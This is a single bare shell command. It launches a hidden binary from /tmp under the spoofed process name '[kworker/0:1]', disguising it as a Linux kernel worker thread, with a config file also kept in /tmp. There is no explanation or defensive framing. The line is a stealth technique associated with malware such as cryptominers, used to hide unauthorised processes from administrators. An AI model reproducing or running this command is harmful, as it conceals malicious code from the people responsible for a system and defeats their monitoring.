exec -a "[kworker/0:1]" /tmp/.m --config=/tmp/c
